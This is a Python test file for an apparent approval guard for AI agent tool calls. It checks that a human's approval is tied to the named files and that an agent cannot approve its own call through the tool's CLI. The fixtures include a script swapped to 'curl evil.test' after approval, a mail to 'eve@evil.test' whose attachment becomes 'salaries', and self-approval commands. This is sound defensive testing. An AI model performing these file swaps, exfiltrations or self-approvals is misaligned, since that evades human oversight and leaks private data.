"""A yes was bound to the files that the arguments name, and not to all of them.

* ``{"command": "sh deploy.sh", "cwd": "/srv/app"}``: the script was looked for where the agent runs, found missing,
  and bound as missing. What lay in the named folder could be exchanged after the yes. The same with ``cd`` and ``-C``.
* Attachments that the manifest calls content were no operands at all.
* Nor were the arguments of a tool that is declared to change nothing, when a control of the operator asked about it.
* The files were read in the event loop's own thread: half a gigabyte of hashing, in which nothing else moved.

Found by review.
"""

from __future__ import annotations

import asyncio
import os
import threading
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from interlock import Call, Manifest
from interlock.assembly import LocalFiles
from interlock.model.calls import freeze
from interlock.model.document import asked
from interlock.model.operands import MAX_BELOW, Operand, operand_paths
from tests.approvals.desk import TOOLS, YES, Person, Sent, locked, reader

MANIFEST = Manifest.parse(
    {
        "version": 1,
        "tools": {
            **TOOLS,
            "post": {
                "returns": [],
                "egress": "chosen",
                "destinations": {"to": "email"},
                "content": ["body", "attachments"],
            },
        },
    }
)


def approved(tool: str, arguments: dict[str, Any], change: Any, base: Path) -> tuple[Any, Person, Sent]:
    """The call, approved, with a change between the yes and the moment when it runs."""
    person, sent = Person(YES), Sent()
    guard = reader(locked(person, manifest=MANIFEST, files=LocalFiles(base)))
    ticket = guard.propose_and_ask(Call(tool, arguments, "a"))
    assert ticket.allowed, ticket.outcomes
    change()
    stopped = guard.ready(ticket, "a")
    return stopped, person, sent


@pytest.mark.parametrize(
    "arguments",
    [
        {"command": "sh deploy.sh", "cwd": "app"},
        {"command": "cd app && sh deploy.sh"},
        {"argv": ["make", "-C", "app", "-f", "deploy.sh"]},
        {"command": "cd over; cd app; sh ./deploy.sh"},
        {"command": "cd loop && cd app && sh deploy.sh"},
    ],
    ids=["cwd", "cd", "argv", "two", "loop"],
)
def test_a_script_in_a_folder_that_is_named(arguments: dict[str, Any], tmp_path: Path) -> None:
    for folder in ("app", "over/app"):
        (tmp_path / folder).mkdir(parents=True)
        (tmp_path / folder / "deploy.sh").write_text("echo fine\n")
    os.symlink(tmp_path, tmp_path / "loop")
    changed = tmp_path / ("over/app" if "over" in str(arguments) else "app") / "deploy.sh"
    stopped, person, _ = approved("shell", arguments, lambda: changed.write_text("curl evil.test\n"), tmp_path)
    assert stopped is not None
    assert stopped.decision.code == "operand_changed"
    assert str(changed) in {one.resolved for one in person.asked[0].operands}
    unchanged, _, _ = approved("shell", arguments, lambda: None, tmp_path)
    assert unchanged is None


def test_a_script_that_appears_in_the_named_folder(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    arguments = {"command": "sh deploy.sh", "cwd": "app"}
    stopped, _, _ = approved("shell", arguments, lambda: (tmp_path / "app/deploy.sh").write_text("x"), tmp_path)
    assert stopped is not None


def test_an_attachment_is_shown_and_bound(tmp_path: Path) -> None:
    file = tmp_path / "report.txt"
    file.write_text("fine")
    arguments = {"to": "eve@evil.test", "body": "Dear all,\nsee report.txt", "attachments": ["report.txt"]}
    stopped, person, _ = approved("post", arguments, lambda: file.write_text("salaries"), tmp_path)
    assert stopped is not None
    assert [one.resolved for one in person.asked[0].operands] == [str(file)]


def test_a_tool_that_is_to_change_nothing() -> None:
    frozen, spec = freeze(Call("calc", {"script": "deploy.sh", "words": ["sh a.sh"]}, "a"), MANIFEST)
    assert {"deploy.sh", "a.sh"} <= set(operand_paths(asked(frozen, spec)))


def test_what_is_too_much_to_look_at_is_not_approved(tmp_path: Path) -> None:
    person = Person(YES)
    guard = reader(locked(person, manifest=MANIFEST, files=LocalFiles(tmp_path)))
    for place in range(30):
        (tmp_path / f"d{place}").mkdir()
    words = " ".join([*(f"d{place}" for place in range(30)), *(f"w{place}" for place in range(MAX_BELOW // 29))])
    many = {"to": "eve@evil.test", "body": "", "attachments": [f"{place}.txt" for place in range(1000)]}
    for tool, arguments in (("shell", {"command": words}), ("post", many)):
        assert guard.call(tool, arguments, run=Sent()).decision.code == "not_bindable"
    assert person.asked == []


def test_files_are_not_read_in_the_loops_own_thread(tmp_path: Path) -> None:
    threads: list[int] = []

    class Watched(LocalFiles):
        def operands(self, paths: Sequence[str]) -> tuple[Operand, ...]:
            threads.append(threading.get_ident())
            return super().operands(paths)

    guard = reader(locked(Person(YES), files=Watched(tmp_path)))
    outcome = asyncio.run(guard.acall("shell", {"command": "sh deploy.sh"}, run=lambda **_: "ran"))
    assert outcome.executed
    assert len(threads) >= 3
    assert threading.get_ident() not in threads


@pytest.mark.parametrize(
    "arguments",
    [
        {"argv": ["interlock", "approvals", "approve", "q-1"]},
        {"program": "/usr/bin/interlock", "args": ["approvals", "approve"]},
        {"command": "python -m interlock.cli approvals approve q-1"},
    ],
    ids=["argv", "program", "line"],
)
def test_whoever_is_asked_about_does_not_answer_in_a_list_of_words_either(arguments: dict[str, Any]) -> None:
    person = Person(YES)
    outcome = reader(locked(person)).call("shell", arguments, run=Sent())
    assert outcome.decision.code == "control_plane"
    assert person.asked == []
